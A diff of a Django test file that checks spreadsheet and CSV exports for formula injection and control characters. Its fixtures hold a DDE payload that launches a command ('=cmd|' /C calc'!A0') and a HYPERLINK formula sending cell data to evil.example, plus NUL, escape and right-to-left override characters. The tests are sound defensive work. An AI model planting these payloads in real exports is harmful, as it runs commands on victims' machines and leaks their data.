@@ -16,7 +16,15 @@ from django.core.files.uploadedfile import SimpleUploadedFile
 from django.urls import reverse
 from python_calamine import CalamineWorkbook
 
-from core.cells import FORMULA_STARTS, safe_cell, safe_row, safe_text, workbook, write_cell
+from core.cells import (
+    CONTROLS,
+    FORMULA_STARTS,
+    safe_cell,
+    safe_row,
+    safe_text,
+    workbook,
+    write_cell,
+)
 from dues import services as dues_services
 from funds import services as funds_services
 from funds.models import Category, Direction, Donor, DonorKind, Entry, OrganisationKind
@@ -29,6 +37,8 @@ from people.models import Person
 CMD = "=cmd|' /C calc'!A0"
 LINK = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'
 NASTY = [CMD, LINK, "+1", "-2", "@x", "\tTab", "\rCR"]
+# NUL, ESC and a right-to-left override, as old rows in SQLite may hold them.
+CONTROL_NAME = "Nguyễn\x00 Văn\u202e \x1b[31mAn"
 
 
 def test_safe_text_quotes_what_starts_like_a_formula_and_nothing_else():
@@ -40,6 +50,9 @@ def test_safe_text_quotes_what_starts_like_a_formula_and_nothing_else():
         -2, 1.5, None, "'-2", datetime.date(2025, 1, 1),
     ]  # fmt: skip
     assert safe_cell(-150_000) == -150_000  # money stays a number
+    assert safe_text(CONTROL_NAME) == "Nguyễn Văn [31mAn"
+    assert safe_text("\x00=1+1") == "'=1+1"
+    assert safe_text("dòng 1\ndòng 2\tcột") == "dòng 1\ndòng 2\tcột"
 
 
 def test_write_cell_writes_text_as_text_and_numbers_as_numbers():
@@ -88,6 +101,8 @@ def nasty(tree, users, settings, tmp_path):
     b = make_member(None, tree.br1a, joined=datetime.date(2020, 1, 1))
     Person.objects.filter(pk=a.person_id).update(full_name=CMD, address_detail="+1")
     Person.objects.filter(pk=b.person_id).update(full_name=LINK, address_detail="@x")
+    c = make_member(None, tree.br1a, joined=datetime.date(2020, 1, 1))
+    Person.objects.filter(pk=c.person_id).update(full_name=CONTROL_NAME)
     Membership.objects.filter(pk=a.pk).update(card_number="-2", note="\tTab")
     Membership.objects.filter(pk=b.pk).update(card_number="@x", note="\rCR")
     dues_services.record_payment(
@@ -157,6 +172,7 @@ def test_no_download_carries_a_live_formula(nasty, users, client):
             assert _formulas(content) == [], what
             values = [c for row in _xlsx_values(content) for c in row]
         assert _unsafe(values) == [], what
+        assert [v for v in values if isinstance(v, str) and CONTROLS.search(v)] == [], what
         seen[what] = values
     flat = {what: " | ".join(map(str, values)) for what, values in seen.items()}
     # The texts did reach the files, neutralised.
@@ -164,6 +180,7 @@ def test_no_download_carries_a_live_formula(nasty, users, client):
         assert "'" + CMD in flat[what] and "'" + LINK in flat[what], what
     assert "'+1" in flat["members.csv"] and "'-2" in flat["members.csv"]
     assert "'@x" in flat["members.csv"] and "'\tTab" in flat["members.csv"]
+    assert "Nguyễn Văn [31mAn" in flat["members.csv"] and "Nguyễn Văn [31mAn" in flat["book.xlsx"]
     assert "'" + LINK in flat["ledger.xlsx"] and "'" + CMD in flat["ledger.xlsx"]
     for what in ("remittance.xlsx", "indicators.xlsx", "denominators.xlsx"):
         assert "'" + LINK in flat[what], what
